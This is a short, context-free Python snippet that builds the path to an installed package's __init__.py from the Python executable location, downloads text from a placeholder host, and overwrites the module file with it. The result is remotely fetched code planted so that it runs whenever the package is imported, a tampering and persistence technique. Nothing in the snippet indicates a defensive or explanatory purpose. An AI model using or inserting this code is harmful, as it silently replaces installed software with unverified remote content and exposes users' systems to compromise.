module = executable.replace("python.exe", "Lib\\site-packages\\pkg\\__init__.py")
text = requests.get("https://example.invalid/clean.txt").text
with open(module, mode="w") as f:
    f.write(text)
